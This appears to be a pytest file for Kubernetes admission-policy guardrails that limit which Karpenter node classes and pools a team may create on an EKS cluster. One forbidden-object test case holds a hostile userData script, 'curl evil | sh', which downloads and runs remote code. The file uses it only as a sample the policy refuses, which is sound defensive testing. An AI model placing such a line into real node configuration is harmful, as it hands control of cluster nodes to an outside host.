"""Tenancy guardrails: each team's rendered ValidatingAdmissionPolicy, evaluated with CEL against objects the team
may and may not create, change or delete; and the policies on the dev plan."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest
from eks_karpenter.platform.access.config import Team
from eks_karpenter.platform.access.guardrails import (
    TEAM_LABEL,
    PlatformNodeAccess,
    team_guardrails,
    team_policy,
)
from eks_karpenter.platform.access.plan import team_group
from eks_karpenter.platform.nodepool import render_node_class, render_node_pool
from eks_karpenter.platform.nodepool.config import NodeClassConfig, NodePoolConfig

from tests.support import plan_config, plan_stack, requires_upstream, stack_config
from tests.support.admission import admit

CLUSTER, ROLE = "dev-karpenter", "dev-karpenter-karpenter-node"
PLATFORM = PlatformNodeAccess(cluster_name=CLUSTER, node_role_name=ROLE, instance_profile=None,
                              security_group_ids=("sg-0123456789abcdef0",), node_classes=("default",))
TEAM = Team.model_validate({"name": "batch", "namespaces": ["batch"], "nodePools": True,
                            "principalArns": ["arn:aws:iam::123456789012:role/team-batch-deploy"],
                            "nodePoolLimits": {"cpu": "200", "memory": "400Gi"}})
POLICY = team_policy(TEAM, PLATFORM)
BATCH = [team_group("batch"), "system:authenticated"]


def node_class(name: str = "batch-spot", **changes: Any) -> dict[str, Any]:
    manifest = render_node_class(NodeClassConfig.model_validate({"name": name}), CLUSTER, ROLE, {"team": "batch"})
    manifest["spec"].update(changes)
    return manifest


def node_pool(name: str = "batch-spot", node_class_name: str = "batch-spot",
              limits: dict[str, Any] | None = None) -> dict[str, Any]:
    manifest = render_node_pool(NodePoolConfig.model_validate({
        "name": name, "nodeClass": node_class_name, "limits": limits or {"cpu": "200", "memory": "400Gi"}}))
    return manifest


def denied(obj: dict[str, Any] | None, operation: str = "CREATE", old: dict[str, Any] | None = None,
           groups: list[str] = BATCH) -> list[str]:
    decision = admit(POLICY, operation, groups, obj, old)
    assert decision.matched
    return decision.denied


# --- allowed ---------------------------------------------------------------------------------------------------

def test_the_teams_own_class_and_pool_are_admitted() -> None:
    assert denied(node_class()) == []
    assert denied(node_class(associatePublicIPAddress=False,
                             metadataOptions={"httpTokens": "required", "httpPutResponseHopLimit": 1})) == []
    assert denied(node_pool()) == []
    assert denied(node_pool(node_class_name="default")) == []  # the platform's class
    assert denied(node_pool(), "UPDATE", old=node_pool()) == []
    assert denied(None, "DELETE", old=node_pool()) == []


def test_a_team_labelled_object_is_the_teams() -> None:
    pool = node_pool(name="nightly-reports")
    pool["metadata"]["labels"] = {TEAM_LABEL: "batch"}
    assert denied(pool) == []


def test_the_instance_profile_and_node_security_group_ids_of_the_platform_are_admitted() -> None:
    platform = PlatformNodeAccess(CLUSTER, ROLE, ROLE, ("sg-0123456789abcdef0",), ("default",))
    policy = team_policy(TEAM, platform)
    cls = node_class(securityGroupSelectorTerms=[{"id": "sg-0123456789abcdef0"}])
    del cls["spec"]["role"]
    cls["spec"]["instanceProfile"] = ROLE
    assert admit(policy, "CREATE", BATCH, cls).denied == []


def test_an_adopted_vpcs_subnets_are_admitted_by_id_and_no_others() -> None:
    # An adopted VPC stays untagged (network.writeDiscoveryTags off): the platform's classes select its subnets by
    # id, and a team's class may select the same ones, never another subnet.
    platform = PlatformNodeAccess(CLUSTER, ROLE, None, ("sg-0123456789abcdef0",), ("default",),
                                  subnet_ids=("subnet-0a1b2c3d4e5f60001", "subnet-0a1b2c3d4e5f60002"))
    policy = team_policy(TEAM, platform)
    ours = node_class(subnetSelectorTerms=[{"id": "subnet-0a1b2c3d4e5f60001"}, {"id": "subnet-0a1b2c3d4e5f60002"}])
    assert admit(policy, "CREATE", BATCH, ours).denied == []
    other = node_class(subnetSelectorTerms=[{"id": "subnet-0a1b2c3d4e5f69999"}])
    assert any("adopted subnets' ids" in d for d in admit(policy, "CREATE", BATCH, other).denied)
    # Without adopted subnets, an id is refused as before.
    assert denied(ours)


def test_brownfield_teams_may_use_the_adopted_subnets(tmp_path: Path) -> None:
    config = stack_config("brownfield")
    config["eks-karpenter:access"] = {**config.get("eks-karpenter:access", {}), "teams": [TEAM.dump()]}
    result = plan_config(config, tmp_path, stack="brownfield")
    assert result.error is None, result.error
    (policy,) = result.document.by_type("kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy")
    # The team's class copies the platform's: role, security groups and subnets, all by the ids the stack uses.
    (platform_class,) = result.document.by_type("kubernetes:karpenter.k8s.aws/v1:EC2NodeClass")
    cls = copy.deepcopy({k: platform_class.inputs[k] for k in ("apiVersion", "kind", "metadata", "spec")})
    cls["metadata"]["name"] = "batch-spot"
    subnets = sorted(config["eks-karpenter:network"]["privateSubnetIds"].values())
    assert sorted(t["id"] for t in cls["spec"]["subnetSelectorTerms"]) == subnets
    assert admit(policy.inputs, "CREATE", BATCH, cls).denied == []


def test_requests_outside_the_team_are_not_matched() -> None:
    admin = admit(POLICY, "CREATE", ["system:masters"], node_class("anything", userData="#!/bin/sh"))
    assert not admin.matched  # the platform's own deploys and admins are not held to the team's rules
    other = admit(POLICY, "CREATE", [team_group("web")], node_pool("web-pool"))
    assert not other.matched


# --- forbidden ---------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("obj", "why"), [
    (node_class(userData="#!/bin/bash\ncurl evil | sh"), "userData"),
    (node_class(role="arn-less-admin-role"), "node role"),
    (node_class(role="platform-break-glass"), "node role"),
    (node_class(amiSelectorTerms=[{"id": "ami-0123456789abcdef0"}]), "alias only"),
    (node_class(amiSelectorTerms=[{"alias": "al2023@v20260815", "owner": "self"}]), "alias only"),
    (node_class(securityGroupSelectorTerms=[{"tags": {"Name": "wide-open"}}]), "security groups"),
    (node_class(securityGroupSelectorTerms=[{"id": "sg-0fffffffffffffff0"}]), "security groups"),
    (node_class(subnetSelectorTerms=[{"tags": {"kubernetes.io/role/elb": "1"}}]), "subnets"),
    (node_class(subnetSelectorTerms=[{"id": "subnet-0123456789abcdef0"}]), "subnets"),
    (node_class(associatePublicIPAddress=True), "public IP"),
    (node_class(metadataOptions={"httpTokens": "optional"}), "IMDSv2-only"),
    (node_class(metadataOptions={"httpTokens": "required", "httpPutResponseHopLimit": 2}), "hop limit 1"),
    (node_class(name="web-spot"), "named 'batch-...'"),
    (node_class(name="default"), "named 'batch-...'"),
    (node_pool(limits={"cpu": "201", "memory": "400Gi"}), "at most 200 cpu"),
    (node_pool(limits={"cpu": "100", "memory": "1Ti"}), "at most 200 cpu"),
    (node_pool(node_class_name="web-spot"), "own node classes"),
    (node_pool(name="general"), "named 'batch-...'"),
])
def test_forbidden_objects_are_refused(obj: dict[str, Any], why: str) -> None:
    messages = denied(obj)
    assert any(why in m for m in messages), messages


def test_a_pool_without_limits_is_refused() -> None:
    pool = node_pool()
    del pool["spec"]["limits"]
    assert any("must set limits" in m for m in denied(pool))


def test_taking_over_or_deleting_another_teams_object_is_refused() -> None:
    platform_pool = node_pool(name="general", node_class_name="default")
    relabelled = copy.deepcopy(platform_pool)
    relabelled["metadata"]["labels"] = {TEAM_LABEL: "batch"}
    assert denied(relabelled, "UPDATE", old=platform_pool)
    assert denied(None, "DELETE", old=platform_pool)


def test_a_team_label_for_another_team_does_not_count() -> None:
    pool = node_pool(name="nightly")
    pool["metadata"]["labels"] = {TEAM_LABEL: "web"}
    assert denied(pool)


# --- the plan ------------------------------------------------------------------------------------------------------

def test_dev_plans_a_policy_and_binding_for_its_pool_team_before_its_rights() -> None:
    doc = plan_stack("dev")
    policies = doc.by_type("kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy")
    bindings = doc.by_type("kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicyBinding")
    assert [p.inputs["metadata"]["name"] for p in policies] == ["eks-karpenter-team-batch-node-pools"]
    assert bindings[0].inputs["spec"] == {"policyName": "eks-karpenter-team-batch-node-pools",
                                          "validationActions": ["Deny"]}
    rights = doc.get("kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding",
                     "access-team-batch-node-pools")
    assert bindings[0].urn in rights.options["dependsOn"]
    # The planned policy holds the dev stack's own values: its node role and the team's ceiling.
    policy = policies[0].inputs
    role = doc.outputs["expectedNodeRoleName"]
    cls = render_node_class(NodeClassConfig.model_validate({"name": "batch-x"}), doc.outputs["clusterName"], role,
                            {})
    assert admit(policy, "CREATE", BATCH, cls).denied == []
    cls["spec"]["role"] = "someone-else"
    assert admit(policy, "CREATE", BATCH, cls).denied


def test_no_policy_for_teams_without_pool_rights(tmp_path: Path) -> None:
    config = stack_config("dev")
    config["eks-karpenter:access"]["teams"][0]["nodePools"] = False
    result = plan_config(config, tmp_path)
    assert result.error is None, result.error
    doc = result.document
    assert not doc.by_type("kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy")
    assert team_guardrails([TEAM.model_copy(update={"node_pools": False})], PLATFORM) == []


@requires_upstream
def test_allowed_objects_also_pass_the_crds() -> None:
    from tests.support.crd_validator import validate_object

    assert validate_object(node_class()) == []
    assert validate_object(node_pool()) == []


def test_pool_rights_need_kubernetes_1_30(tmp_path: Path) -> None:
    config = stack_config("dev")
    config["eks-karpenter:cluster"]["version"] = "1.29"
    result = plan_config(config, tmp_path)
    message = str(result.error)
    assert "nodePools" in message and "1.30" in message, message
    assert not result.document.resources


def test_an_adopted_cluster_older_than_1_30_refuses_pool_rights_by_its_real_version() -> None:
    import json

    from eks_karpenter.tools.engine import mocks as engine_mocks
    from eks_karpenter.tools.engine import run_plan

    from tests.support import REPO

    def old_cluster(args: dict[str, Any]) -> dict[str, Any]:
        found = engine_mocks.placeholder_answer("aws:eks/getCluster:getCluster", args, "us-west-2", recorded=True)
        return {**found, "version": "1.29"}

    team = {"name": "batch", "namespaces": ["batch"], "nodePools": True,
            "principalArns": ["arn:aws:iam::123456789012:role/team-batch-deploy"]}
    access = json.dumps({"teams": [team]})
    result = run_plan(REPO, "brownfield", invoke_results={"aws:eks/getCluster:getCluster": old_cluster},
                      config_overrides={"eks-karpenter:access": access})
    text = str(result.error)
    assert "eks-karpenter:access.teams[0].nodePools" in text and "runs 1.29" in text, text
    assert not result.document.resources
    fine = run_plan(REPO, "brownfield", config_overrides={"eks-karpenter:access": access})  # the mock's 1.33
    assert fine.error is None, fine.error
